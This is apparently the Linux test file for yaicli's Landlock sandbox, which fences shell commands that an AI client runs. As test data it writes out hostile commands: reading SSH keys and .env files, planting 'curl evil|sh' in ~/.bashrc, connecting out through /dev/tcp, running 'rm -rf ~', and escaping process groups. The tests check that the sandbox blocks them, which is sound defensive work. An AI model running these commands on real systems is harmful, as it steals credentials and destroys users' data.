//go:build linux

package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// fencedRun is one command's result from runShell, read off the text the
// model is given (shellHeader's lines, then the output).
type fencedRun struct {
	Output string
	Code   int
	Error  string
}

// sandboxHome makes a home directory outside the temporary directories (a
// real home is not under /tmp, which fenced commands may write) with a key
// in ~/.ssh and a workspace in ~/proj; it returns the config of a run
// started there with default settings.
func sandboxHome(t *testing.T) *config {
	t.Helper()
	if landlockABI() < 1 {
		skipWithout(t, "Landlock", "no Landlock in this kernel")
	}
	gocache, _ := exec.Command("go", "env", "GOCACHE").Output()
	base, err := os.MkdirTemp(fencedReadOnlyDir(t, strings.TrimSpace(string(gocache))), ".sandboxtest-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	home, _ := filepath.Abs(base)
	ws := filepath.Join(home, "proj")
	for _, d := range []string{filepath.Join(home, ".ssh"), ws} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte("PRIVATE-KEY-BYTES\n"), 0o600)
	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o600)
	// The commands' own temporary directory: not /tmp itself, which holds
	// this home when the repository is cloned under /tmp, and a directory
	// holding a sensitive place is granted only child by child (go build
	// makes its work directory right in TMPDIR).
	tmp := t.TempDir()
	env := []string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "SHELL=/bin/sh", "GOCACHE=" + strings.TrimSpace(string(gocache)),
		"GOTOOLCHAIN=local", "GOFLAGS=", "TMPDIR=" + tmp, "OPENAI_API_KEY=sk-sandboxtest-0123456789abcdef"}
	// The toolchains PATH names, where the real home keeps them: the fence
	// grants reading them by the variables that name them (fenceToolchainVars).
	if real, err := os.UserHomeDir(); err == nil {
		for v, d := range map[string]string{"PYENV_ROOT": ".pyenv", "CARGO_HOME": ".cargo", "RUSTUP_HOME": ".rustup", "NVM_DIR": ".nvm"} {
			if st, err := os.Stat(filepath.Join(real, d)); err == nil && st.IsDir() {
				env = append(env, v+"="+filepath.Join(real, d))
			}
		}
	}
	cfg, err := loadConfig(configSources{env: envLookup(env), home: home, workDir: ws, environ: env, cacheDir: filepath.Join(home, ".cache"),
		tmpDir: tmp, uid: os.Getuid(), now: time.Now, path: filepath.Join(home, ".config", "yaicli", "config.ini")}, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	return cfg
}

// fencedReadOnlyDir is a directory of this user's to make the fake home
// in that a fenced command may not write to: the package directory, unless
// the clone is where every fenced command writes (under /tmp, TMPDIR or a
// build cache), then the user's cache or home directory. The places are the
// sandbox's own, asked of newSandbox, not a copy of its list. Without such a
// directory the attacks could not fail, so the test is skipped by name.
func fencedReadOnlyDir(t *testing.T, gocache string) string {
	t.Helper()
	env := append(os.Environ(), "GOCACHE="+gocache)
	open := newSandbox(sandboxOptions{workDir: "/", environ: env}, "").write // "/": no workspace, only what every command may write
	for i, d := range open {
		open[i] = resolvePathOf(d)
	}
	wd, _ := os.Getwd()
	candidates := []string{wd}
	if d, err := os.UserCacheDir(); err == nil {
		candidates = append(candidates, d)
	}
	if d, err := os.UserHomeDir(); err == nil {
		candidates = append(candidates, d)
	}
	for _, d := range candidates {
		if r := resolvePathOf(d); !insideAny(r, open) && unix.Access(r, unix.W_OK) == nil {
			return r
		}
	}
	skipWithout(t, "a directory outside /tmp", fmt.Sprintf("no writable directory among %v lies outside what every fenced command may write (%v)", candidates, open))
	return ""
}

// mayPtrace reports whether this process holds CAP_SYS_PTRACE (bit 19 of
// /proc/self/status's CapEff), which reading the /proc files of a
// non-dumpable process of the same user takes.
func mayPtrace() bool {
	b, _ := os.ReadFile("/proc/self/status")
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "CapEff:"); ok {
			caps, err := strconv.ParseUint(strings.TrimSpace(v), 16, 64)
			return err == nil && caps&(1<<unix.CAP_SYS_PTRACE) != 0
		}
	}
	return false
}

// envLookup reads a variable from environ.
func envLookup(environ []string) func(string) string {
	return func(k string) string { return envValue(environ, k) }
}

// runFenced runs command as a call nobody was asked about (fenced under
// the default SANDBOX=auto) or, with fenced false, unfenced.
func runFenced(t *testing.T, cfg *config, command string, fenced bool) fencedRun {
	t.Helper()
	self, _ := os.Executable()
	ctx := context.Background()
	if !fenced {
		ctx = withAsked(ctx)
	}
	cl := newClipper(0, nil)
	if err := runShell(ctx, command, cfg.workDir, time.Minute, cfg.redactor().childEnv(cfg.environ, nil), newSandbox(cfg.toolbox().fence, self).start(ctx), resultWriter{w: cl, c: cl}); err != nil {
		t.Fatalf("runShell(%q): %v", command, err)
	}
	text := cl.finish().modelText()
	head, output, _ := strings.Cut(text, "output:\n")
	r := fencedRun{Output: output, Code: -1}
	for _, line := range strings.Split(head, "\n") {
		if v, ok := strings.CutPrefix(line, "exit code: "); ok {
			r.Code, _ = strconv.Atoi(v)
		}
		if v, ok := strings.CutPrefix(line, "error: "); ok {
			r.Error = v
		}
		if v, ok := strings.CutPrefix(line, "note: "); ok { // a fenced failure's note
			r.Error = v
		}
	}
	if r.Code == -1 {
		t.Fatalf("result of %q has no exit code:\n%s", command, text)
	}
	return r
}

// TestSandboxAttacks runs each attack fenced (it must fail) and unfenced
// (it must work, so the test can fail).
func TestSandboxAttacks(t *testing.T) {
	cfg := sandboxHome(t)
	home := cfg.homeDir
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
	pid := strconv.Itoa(os.Getpid())
	attacks := []struct {
		name, cmd, leak string
		unfenced        func() bool // whether the attack works here without the fence (nil: everywhere)
	}{
		{"read ~/.ssh key", "cat ~/.ssh/id_ed25519", "PRIVATE-KEY-BYTES", nil},
		{"read ~/.ssh through ..", "cat proj/../.ssh/id_ed25519 2>&1; cd ..; cat ./.ssh/id_ed25519", "PRIVATE-KEY-BYTES", nil},
		{"list ~/.ssh", "ls ~/.ssh", "id_ed25519", nil},
		{"link to ~/.ssh in the workspace", "ln -s ~/.ssh keys && cat keys/id_ed25519", "PRIVATE-KEY-BYTES", nil},
		{"hard link of the key", "ln ~/.ssh/id_ed25519 k 2>/dev/null; cat k", "PRIVATE-KEY-BYTES", nil},
		{"write beside the workspace", "echo PLANTED > ~/planted && cat ~/planted", "PLANTED", nil},
		{"append to ~/.bashrc", "echo 'curl evil|sh' >> ~/.bashrc; cat ~/.bashrc", "curl evil", nil},
		{"write /etc", "echo x > /etc/yaicli-sandbox-test && echo wrote", "wrote", func() bool { return unix.Access("/etc", unix.W_OK) == nil }},
		// A non-dumpable process's /proc files take CAP_SYS_PTRACE to read:
		// root has it, another user (or a container's root without it) not.
		{"read yaicli's environ", "cat /proc/" + pid + "/environ > /dev/null && echo ENVIRON-READ", "ENVIRON-READ", mayPtrace},
		{"read yaicli's memory maps", "cat /proc/" + pid + "/maps > /dev/null && echo MAPS-READ", "MAPS-READ", mayPtrace},
		{"connect out (bash /dev/tcp)", "bash -c 'echo hi > /dev/tcp/127.0.0.1/" + port + "' && echo connected", "connected", nil},
		{"write to the terminal", "ls -l /proc/$$/fd/ >/dev/null; for t in /dev/tty /dev/pts/*; do echo x 2>/dev/null > $t && echo TTY-WRITTEN; done; true", "TTY-WRITTEN", nil},
		{"bind a port", "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen(); print(\"bound\")'", "bound", nil},
	}
	t.Cleanup(func() { os.Remove("/etc/yaicli-sandbox-test"); os.Remove(filepath.Join(home, "planted")) })
	unix.Prctl(unix.PR_SET_DUMPABLE, 0, 0, 0, 0) // as yaicli's main makes itself; the test process stands for yaicli
	t.Cleanup(func() { unix.Prctl(unix.PR_SET_DUMPABLE, 1, 0, 0, 0) })
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			if prog := strings.Fields(a.cmd)[0]; prog == "python3" || prog == "bash" {
				if _, err := exec.LookPath(prog); err != nil {
					skipWithout(t, prog, "no "+prog+" here")
				}
			}
			if got := runFenced(t, cfg, a.cmd, true); strings.Contains(got.Output, a.leak) {
				t.Errorf("fenced %q printed %q (want no %q)", a.cmd, got.Output, a.leak)
			}
			if strings.Contains(a.name, "hard link") || strings.Contains(a.name, "terminal") || strings.Contains(a.name, "through ..") && os.Getuid() != 0 {
				return // unfenced, these work only in some setups; the fenced half is what matters
			}
			if a.unfenced != nil && !a.unfenced() {
				t.Logf("unfenced, %q cannot work for uid %d here: only the fenced half is checked", a.name, os.Geteuid())
				return
			}
			if got := runFenced(t, cfg, a.cmd, false); !strings.Contains(got.Output, a.leak) {
				t.Errorf("unfenced %q printed %q, want %q: the attack does not work even without the sandbox", a.cmd, got.Output, a.leak)
			}
			os.Remove(filepath.Join(cfg.workDir, "keys"))
			os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o600)
		})
	}
}

// TestFenceKeepsOutOwnPlaces: a fenced command reads none of yaicli's own
// places, listed once by config.toolbox (ownPlaces): its configuration,
// the permissions file, the audit log, a saved chat and MCP_CONFIG, here
// all in the workspace, which it otherwise reads and writes; unfenced it
// reads each (so the test can fail). The fs tools ask before reading the
// first four.
func TestFenceKeepsOutOwnPlaces(t *testing.T) {
	cfg := sandboxHome(t)
	in := func(rel string) string { return filepath.Join(cfg.workDir, "yai", rel) }
	cfg.configPath, cfg.ToolPermissionsFile, cfg.ToolAuditLog = in("conf/config.ini"), in("perms.json"), in("audit.log")
	cfg.ChatHistoryDir, cfg.MCPConfig = in("chats"), in("servers.json")
	perm := newPermissions(cfg.toolbox().perms, cfg.redactor(), func(w string) { t.Error(w) })
	places := []struct {
		name, path string
		asked      bool
	}{
		{"config", cfg.configPath, true}, {"permissions file", cfg.ToolPermissionsFile, true}, {"audit log", cfg.ToolAuditLog, true},
		{"saved chat", filepath.Join(cfg.ChatHistoryDir, "chat.json"), true}, {"MCP_CONFIG", cfg.MCPConfig, true},
	}
	for _, p := range places {
		if err := os.MkdirAll(filepath.Dir(p.path), 0o700); err != nil {
			t.Fatal(err)
		}
		os.WriteFile(p.path, []byte("OWN-PLACE-BYTES\n"), 0o600)
		if got := runFenced(t, cfg, "cat "+quoteAll([]string{p.path})[0], true); strings.Contains(got.Output, "OWN-PLACE-BYTES") {
			t.Errorf("fenced cat of the %s (%s) printed %q", p.name, p.path, got.Output)
		}
		if got := runFenced(t, cfg, "cat "+quoteAll([]string{p.path})[0], false); !strings.Contains(got.Output, "OWN-PLACE-BYTES") {
			t.Errorf("unfenced cat of the %s printed %q: the place is not there", p.name, got.Output)
		}
		if rc := perm.classify(p.path); p.asked && (rc.free || rc.sensitive == "") {
			t.Errorf("classify(%s) = free %v, sensitive %q: the fs tools would read the %s unasked", p.path, rc.free, rc.sensitive, p.name)
		}
	}
	// A place given as "~/…" is the same place for the fence as for the fs tools.
	cfg.ToolAuditLog = "~/audit-in-home.log"
	inHome := filepath.Join(cfg.homeDir, "audit-in-home.log")
	os.WriteFile(inHome, []byte("OWN-PLACE-BYTES\n"), 0o600)
	if got := runFenced(t, cfg, "cat "+quoteAll([]string{inHome})[0], true); strings.Contains(got.Output, "OWN-PLACE-BYTES") {
		t.Errorf("TOOL_AUDIT_LOG=~/audit-in-home.log: a fenced cat of %s printed %q", inHome, got.Output)
	}
}

// TestSandboxNoWorkspaceAbove: started in $HOME or /, a fenced command has
// no workspace to write, and rm -rf ~ removes nothing of the home.
func TestSandboxNoWorkspaceAbove(t *testing.T) {
	cfg := sandboxHome(t)
	notes, made := filepath.Join(cfg.homeDir, "notes.txt"), filepath.Join(cfg.homeDir, "new")
	os.WriteFile(notes, []byte("mine\n"), 0o600)
	left := func() string { // read from here: the home outside its toolchains is not a fenced command's to read
		a, _ := os.ReadFile(notes)
		b, _ := os.ReadFile(made)
		return string(a) + string(b)
	}
	for _, dir := range []string{cfg.homeDir, "/"} {
		c := *cfg
		c.workDir = dir
		runFenced(t, &c, "rm -rf ~ 2>/dev/null; echo x > ~/new 2>/dev/null", true)
		if got := left(); got != "mine\n" {
			t.Errorf("started in %s, rm -rf ~ and a write left the home as %q", dir, got)
		}
	}
	runFenced(t, cfg, "rm -rf ~ 2>/dev/null", true)
	if got := left(); got != "mine\n" {
		t.Errorf("started in ~/proj, rm -rf ~ removed the home's own files: %q", got)
	}
}

// TestSandboxOrdinaryWork runs what a fenced command must still do.
func TestSandboxOrdinaryWork(t *testing.T) {
	cfg := sandboxHome(t)
	ws := cfg.workDir
	os.WriteFile(filepath.Join(ws, "go.mod"), []byte("module tiny\n\ngo 1.21\n"), 0o600)
	os.WriteFile(filepath.Join(ws, "main.go"), []byte("package main\n\nfunc main() { println(\"tiny\") }\n"), 0o600)
	if out, err := exec.Command("git", "-C", ws, "init", "-q").CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	work := []struct{ cmd, want string }{
		{"go build -o tiny . && ./tiny 2>&1", "tiny"},
		{"git status --short", "?? go.mod"},
		{"git add go.mod main.go && git -c user.name=t -c user.email=t@example.com commit -qm first && git log --oneline | wc -l", "1"},
		{"printf 'all:\\n\\t@echo made-by-make\\n' > Makefile && make", "made-by-make"},
		{"ls", "main.go"},
		{"echo hello | tr a-z A-Z | sed s/H/J/", "JELLO"},
		{"mkdir -p sub/dir && echo ok > sub/dir/f && rm -r sub && echo removed", "removed"},
		{"f=$(mktemp) && echo tmp > $f && cat $f && rm $f", "tmp"},
		{"cat /etc/hostname >/dev/null && head -c 4 /dev/urandom | wc -c", "4"},
		{"ls /usr/bin | head -1 >/dev/null && echo listed", "listed"},
	}
	for _, w := range work {
		t.Run(w.cmd, func(t *testing.T) {
			if got := runFenced(t, cfg, w.cmd, true); got.Code != 0 || !strings.Contains(got.Output, w.want) {
				t.Errorf("fenced %q = exit %d %q %s, want exit 0 and %q", w.cmd, got.Code, got.Output, got.Error, w.want)
			}
		})
	}
}

// cancelOn is a writer that cancels when the text it is waiting for has
// been written.
type cancelOn struct {
	strings.Builder
	want   string
	cancel context.CancelFunc
}

// Write records p and cancels once want is in it.
func (c *cancelOn) Write(p []byte) (int, error) {
	c.Builder.Write(p)
	if strings.Contains(c.String(), c.want) {
		c.cancel()
	}
	return len(p), nil
}

// sleepMarker is a number of seconds for sleep that names one case of
// this run: n, this process's id and variant, the id zero-padded so that
// no marker is part of another, another run's included (1007.2628 was part
// of 1007.26287, and 1007.2628 of case 1007's 1007.26281): leftWith finds
// and kills by it.
func sleepMarker(n, variant int) string { return fmt.Sprintf("%d.%07d%d", n, os.Getpid(), variant) }

// leftWith lists the processes whose command line holds marker.
func leftWith(marker string) []string {
	var out []string
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if err == nil && strings.Contains(string(b), marker) {
			out = append(out, e.Name()+": "+strings.ReplaceAll(string(b), "\x00", " "))
		}
	}
	return out
}

// descendantCases are commands whose children leave the shell's process
// group (setsid, double forks, nohup); 1000.%d becomes a marker.
var descendantCases = []struct {
	name, cmd string
	timeout   time.Duration
	cancel    bool
}{
	{"setsid at the end", "setsid sleep 1000.%d & echo started", time.Minute, false},
	{"double fork, setsid, nohup", "(setsid sh -c 'nohup sleep 1000.%d >/dev/null 2>&1 &' &); echo started", time.Minute, false},
	{"setsid at timeout", "setsid sleep 1000.%d & sleep 1000", 300 * time.Millisecond, false},
	{"setsid at Ctrl+C", "setsid sleep 1000.%d & echo started; sleep 1000", time.Minute, true},
	{"daemon holding the pipe", "setsid sh -c 'while :; do sleep 1000.%d; done' & echo started", time.Minute, false},
	{"disown", "sleep 1000.%d & disown; echo started", time.Minute, false},
	{"stopped child", "setsid sleep 1000.%d & kill -STOP $!; echo started", time.Minute, false},
	{"ignores TERM, HUP and INT", "setsid sh -c 'trap \"\" TERM HUP INT; sleep 1000.%d' & echo started", time.Minute, false},
	{"a hundred children", "setsid sh -c 'for i in $(seq 100); do sleep 1000.%d & done; wait' & echo started", time.Minute, false},
	{"user and pid namespace", "unshare -Urpf sleep 1000.%d & echo started", time.Minute, false},
	{"python double fork", `python3 -c "import os; os.fork() and os._exit(0); os.setsid(); os.fork() and os._exit(0); os.execlp('sleep', 'sleep', '1000.%d')"; echo started`, time.Minute, false},
	{"python double fork, newlines", "python3 -c 'import os,time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\nos.execlp(\"sleep\",\"sleep\",\"1000.%d\")'; echo started", time.Minute, false},
}

// TestEveryDescendantEnds checks no descendant is left after the command
// ends, times out or is cancelled, fenced or not.
func TestEveryDescendantEnds(t *testing.T) {
	cfg := sandboxHome(t)
	self, _ := os.Executable()
	for i, c := range descendantCases {
		for _, fenced := range []bool{true, false} {
			t.Run(c.name+map[bool]string{true: " fenced", false: " unfenced"}[fenced], func(t *testing.T) {
				marker := sleepMarker(1000+i, map[bool]int{true: 1, false: 2}[fenced])
				ctx, cancel := context.WithCancel(context.Background())
				defer cancel()
				if !fenced {
					ctx = withAsked(ctx)
				}
				out := &cancelOn{want: "started", cancel: func() {}}
				if c.cancel {
					out.cancel = cancel
				}
				cmd := strings.Replace(c.cmd, "1000.%d", marker, 1)
				if err := runShell(ctx, cmd, cfg.workDir, c.timeout, cfg.redactor().childEnv(cfg.environ, nil), newSandbox(cfg.toolbox().fence, self).start(ctx), out); err != nil {
					t.Fatal(err)
				}
				if left := leftWith(marker); len(left) > 0 {
					t.Errorf("%q left %v running after the tool ended (%s)", cmd, left, out.String())
					for _, l := range left {
						pid, _ := strconv.Atoi(strings.SplitN(l, ":", 2)[0])
						unix.Kill(pid, unix.SIGKILL)
					}
				}
			})
		}
	}
}

// TestKeyNotInEnvironBlock starts yaicli with provider keys in its
// environment and reads /proc/<pid>/environ as a child (or anyone with
// ptrace rights over it) would: the values are blanked once main starts.
func TestKeyNotInEnvironBlock(t *testing.T) {
	env, _ := e2eEnv(t, nil, e2e{})
	keys := []string{"OPENAI_API_KEY=sk-proc-environ-0123456789", "ANTHROPIC_API_KEY=sk-ant-environ-0123456789", "YAI_API_KEY=sk-yai-environ-0123456789"}
	cmd := exec.Command(binary, "hello")
	cmd.Env = append(env, keys...)
	stdin, err := cmd.StdinPipe() // held open: yaicli waits for the rest of its input
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { stdin.Close(); cmd.Process.Kill(); cmd.Wait() }()
	var block string
	for deadline := time.Now().Add(e2eTimeout); time.Now().Before(deadline); time.Sleep(time.Millisecond) {
		b, err := os.ReadFile("/proc/" + strconv.Itoa(cmd.Process.Pid) + "/environ")
		if errors.Is(err, fs.ErrPermission) {
			// main made yaicli non-dumpable: no process of this user reads
			// its environ now; root can, and only root sees the blanking.
			skipWithout(t, "root", "yaicli's environ is unreadable to uid "+strconv.Itoa(os.Geteuid())+" (non-dumpable); as root the test checks the keys are blanked")
		}
		if block = string(b); strings.Contains(block, "OPENAI_API_KEY=xxxx") {
			break
		}
	}
	for _, k := range keys {
		if _, v, _ := strings.Cut(k, "="); strings.Contains(block, v) {
			t.Errorf("/proc/<yaicli>/environ still holds %s", k)
		}
	}
	if !strings.Contains(block, "HOME=") {
		t.Errorf("the environment block lost its other variables: %q", block)
	}
}

// TestChildrenGetNoProviderKey checks the shell's and an MCP server's
// environment: no provider's key variable, in use or not, unless the MCP
// server's env names it.
func TestChildrenGetNoProviderKey(t *testing.T) {
	cfg := sandboxHome(t)
	environ := append(cfg.redactor().childEnv(cfg.environ, nil), "ANTHROPIC_API_KEY=sk-ant-other", "GEMINI_API_KEY=g-other", "HF_TOKEN=hf_other", "API_KEY=plain")
	cases := []struct {
		name string
		keep map[string]string
		want []string // variables that must be there
	}{
		{"shell", nil, nil},
		{"mcp naming GEMINI_API_KEY", map[string]string{"GEMINI_API_KEY": "g-other"}, []string{"GEMINI_API_KEY"}},
	}
	for _, c := range cases {
		got := strings.Join(cfg.redactor().childEnv(environ, c.keep), "\n")
		for _, v := range providerKeyVars() {
			if strings.Contains(got, "\n"+v+"=") && !slices.Contains(c.want, v) {
				t.Errorf("%s: child environment holds %s", c.name, v)
			}
		}
		for _, v := range c.want {
			if !strings.Contains(got, v+"=") {
				t.Errorf("%s: child environment lost %s, which its env names", c.name, v)
			}
		}
	}
}

// TestBlankValues checks the environment block rewrite keeps its length
// and every other variable.
func TestBlankValues(t *testing.T) {
	block := []byte("A=1\x00OPENAI_API_KEY=sk-1\x00OPENAI_API_KEY_X=keep\x00B=2\x00")
	want := "A=1\x00OPENAI_API_KEY=xxxx\x00OPENAI_API_KEY_X=keep\x00B=2\x00"
	if !blankValues(block, []string{"OPENAI_API_KEY"}) || string(block) != want {
		t.Errorf("blankValues = %q, want %q", block, want)
	}
}

// TestSandboxFallback: where Landlock is missing, SANDBOX=auto runs the
// command unfenced as before (still reaped), and strict refuses it.
func TestSandboxFallback(t *testing.T) {
	cfg := sandboxHome(t)
	self, _ := os.Executable()
	for _, tc := range []struct {
		mode    string
		refused bool
	}{{"auto", false}, {"strict", true}, {"off", false}} {
		s := newSandbox(cfg.toolbox().fence, self)
		s.mode, s.abi = tc.mode, 0
		st := s.start(context.Background())
		var out strings.Builder
		err := runShell(context.Background(), "cat ~/.ssh/id_ed25519", cfg.workDir, time.Minute, cfg.redactor().childEnv(cfg.environ, nil), st, &out)
		if refused := err != nil; refused != tc.refused || st.fence != nil {
			t.Errorf("SANDBOX=%s without Landlock: err %v, fence %v; want refused %v and no fence", tc.mode, err, st.fence, tc.refused)
		}
		if !tc.refused && !strings.Contains(out.String(), "PRIVATE-KEY-BYTES") {
			t.Errorf("SANDBOX=%s without Landlock did not run the command as before: %s", tc.mode, out.String())
		}
	}
	if !strings.Contains(sandboxStatus("auto", "off"), "sandbox:") {
		t.Errorf("sandboxStatus = %q", sandboxStatus("auto", "off"))
	}
}

// TestSandboxWidened: SANDBOX_WRITABLE and SANDBOX_NETWORK widen the fence
// to what they name and no further.
func TestSandboxWidened(t *testing.T) {
	cfg := sandboxHome(t)
	extra := filepath.Join(cfg.homeDir, "shared")
	os.Mkdir(extra, 0o700)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
	connect := "bash -c 'echo hi > /dev/tcp/127.0.0.1/" + port + "' && echo CONNECTED"
	for _, tc := range []struct {
		writable, network, cmd, want string
		ok                           bool
	}{
		{extra, "off", "echo x > ~/shared/f && echo WROTE", "WROTE", true},
		{extra, "off", "echo x > ~/other && echo WROTE", "WROTE", false},
		{"", "on", connect, "CONNECTED", true},
		{"", port, connect, "CONNECTED", true},
		{"", "1", connect, "CONNECTED", false},
	} {
		c := *cfg
		c.SandboxWritable, c.SandboxNetwork = []string{tc.writable}, tc.network
		if got := runFenced(t, &c, tc.cmd, true); strings.Contains(got.Output, tc.want) != tc.ok {
			t.Errorf("SANDBOX_WRITABLE=%s SANDBOX_NETWORK=%s %q = %q, want %q there: %v", tc.writable, tc.network, tc.cmd, got.Output, tc.want, tc.ok)
		}
	}
}

// BenchmarkSandboxSpec is the work yaicli does before each fenced command:
// reading the tree to grant it child by child around the denied places.
func BenchmarkSandboxSpec(b *testing.B) {
	cache, _ := os.UserCacheDir()
	s := newSandbox(sandboxOptions{mode: "auto", homeDir: os.Getenv("HOME"), workDir: ".", cacheDir: cache, private: []string{"/nonexistent/chats"}, environ: os.Environ()}, "")
	for b.Loop() {
		s.spec()
	}
}

// TestDescendantsEndWhenYaicliIsKilled: the built binary runs, with
// --yes, a command whose child left its session; yaicli is then killed
// with SIGKILL (no clean-up of its own can run) and the child must end
// too: the wrapper is told by the parent-death signal and sweeps.
func TestDescendantsEndWhenYaicliIsKilled(t *testing.T) {
	d := t.TempDir()
	marker := sleepMarker(1100, 0)
	pg := filepath.Join(d, "pgid")
	f := newFakeProvider(t, sse(toolStream(shellCall("setsid sleep "+marker+" & cut -d' ' -f5 /proc/self/stat > "+pg+"; sleep 600"))), sse(textStream("done")))
	env, _ := e2eEnv(t, f, e2e{})
	cmd := exec.Command(binary, "--yes", "go")
	cmd.Env, cmd.Dir = env, d
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		for _, l := range leftWith(marker) {
			pid, _ := strconv.Atoi(strings.SplitN(l, ":", 2)[0])
			unix.Kill(pid, unix.SIGKILL)
		}
	})
	for deadline := time.Now().Add(e2eTimeout); len(leftWith(marker)) == 0 || fileEmpty(pg); time.Sleep(10 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the command never started")
		}
	}
	cmd.Process.Kill()
	cmd.Wait()
	// Promised within signalBound; allowed hangBound, which tells ending
	// from hanging on a machine busy with other runs, the time logged.
	var left []string
	start := time.Now()
	for deadline := start.Add(hangBound); ; time.Sleep(10 * time.Millisecond) {
		if left = leftWith(marker); len(left) == 0 || time.Now().After(deadline) {
			break
		}
	}
	if len(left) > 0 {
		t.Errorf("left running %v after yaicli was killed: %v", hangBound, left)
	}
	t.Logf("the child ended %v after yaicli was killed (promised: %v)", time.Since(start).Round(time.Millisecond), signalBound)
}

// keySamples are files named like keys (sensitiveNames) that a fenced
// command must not read, relative to the workspace ("ws/") or home ("~/"),
// down to the walk's bounds (keyWalkDepth, keyWalkHomeDepth).
var keySamples = []string{"ws/.env", "ws/.env.local", "ws/prod.tfstate", "ws/server.pem", "ws/tls.key", "ws/id_ed25519", "ws/deploy.ppk",
	"ws/sub/dir/.envrc", "ws/a/b/c/d/e/deep.pem", "~/.yaicli_history", "~/.sqlite_history", "~/.bash_history", "~/.zhistory",
	"~/certs/server.pem", "~/notes/x/.env", "~/.ollama/id_ed25519",
	// the shapes of keyshapes.go: case folded, dotenvs however spelled, secrets and variables files
	"ws/deploy.PEM", "ws/CERT.PFX", "ws/prod.env", "ws/.env-prod", "ws/.env_local", "ws/.ENV", "ws/.streamlit/secrets.toml",
	"ws/.dev.vars", "ws/terraform.tfvars", "ws/secrets.yaml", "ws/.yarnrc.yml"}

// samplePath is a keySamples entry under the run's workspace and home.
func samplePath(cfg *config, s string) string {
	if rest, ok := strings.CutPrefix(s, "ws/"); ok {
		return filepath.Join(cfg.workDir, rest)
	}
	return filepath.Join(cfg.homeDir, strings.TrimPrefix(s, "~/"))
}

// TestSensitivePlacesAskedAndFenced: every place of the one list
// (sensitiveHome, as a file and as a directory, sensitiveSystem, and key
// names in the workspace and home) is asked by the fs tools and unreadable
// to a fenced command, which reads each unfenced (so the test can fail).
func TestSensitivePlacesAskedAndFenced(t *testing.T) {
	cfg := sandboxHome(t)
	perm := newPermissions(cfg.toolbox().perms, cfg.redactor(), func(w string) { t.Error(w) })
	var homePlaces []string
	for _, p := range sensitiveHome {
		homePlaces = append(homePlaces, filepath.Join(cfg.homeDir, p))
	}
	for _, asDir := range []bool{false, true} {
		var paths []string
		for _, p := range homePlaces {
			if asDir {
				p = filepath.Join(p, "inside")
			}
			paths = append(paths, p)
		}
		if !asDir {
			for _, s := range keySamples {
				paths = append(paths, samplePath(cfg, s))
			}
		}
		fencedReadsNone(t, cfg, perm, paths)
		for _, p := range homePlaces {
			os.RemoveAll(p)
		}
	}
	spec := newSandbox(cfg.toolbox().fence, "").spec()
	for _, p := range sensitiveSystem {
		if rc := perm.classify(p); rc.sensitive == "" {
			t.Errorf("the fs tools read %s unasked", p)
		}
		if g := grantHolding(spec, p); g != "" && !strings.HasPrefix(p, "/proc") && !missing(p) { // a missing place is denied by the command that finds it made
			t.Errorf("the fence grants %s through %s", p, g)
		}
		st, err := os.Stat(p)
		if err != nil || strings.HasPrefix(p, "/proc") || unix.Access(p, unix.R_OK) != nil {
			continue // not here, or not readable to this user even unfenced
		}
		cmd := "cat " + p + " 2>/dev/null"
		if st.IsDir() {
			cmd = "ls -A " + p + " 2>/dev/null; cat " + p + "/* 2>/dev/null"
		}
		if got := runFenced(t, cfg, cmd, true); strings.TrimSpace(got.Output) != "" {
			t.Errorf("fenced %q printed %q", cmd, got.Output)
		}
		if got := runFenced(t, cfg, cmd, false); strings.TrimSpace(got.Output) == "" && !st.IsDir() && st.Size() > 0 {
			t.Errorf("unfenced %q printed nothing: the test cannot fail for it", cmd)
		}
	}
}

// fencedReadsNone writes a marker into each of paths, then checks the fs
// tools ask before reading each and one fenced command reads none of
// them, while the same command unfenced reads every one.
func fencedReadsNone(t *testing.T, cfg *config, perm *permissions, paths []string) {
	t.Helper()
	cmd := ""
	for i, p := range paths {
		os.RemoveAll(p)
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(fmt.Sprintf("SECRET-%03d\n", i)), 0o600); err != nil {
			t.Fatal(err)
		}
		if rc := perm.classify(p); rc.sensitive == "" {
			t.Errorf("the fs tools read %s unasked (free %v)", p, rc.free)
		}
		cmd += "cat '" + p + "' 2>/dev/null; "
	}
	fenced, open := runFenced(t, cfg, cmd, true), runFenced(t, cfg, cmd, false)
	for i, p := range paths {
		marker := fmt.Sprintf("SECRET-%03d", i)
		if strings.Contains(fenced.Output, marker) {
			t.Errorf("a fenced cat read %s", p)
		}
		if !strings.Contains(open.Output, marker) {
			t.Errorf("an unfenced cat did not read %s: the test cannot fail for it", p)
		}
	}
}

// grantHolding is the place of spec that grants reading or writing files
// at p, or "".
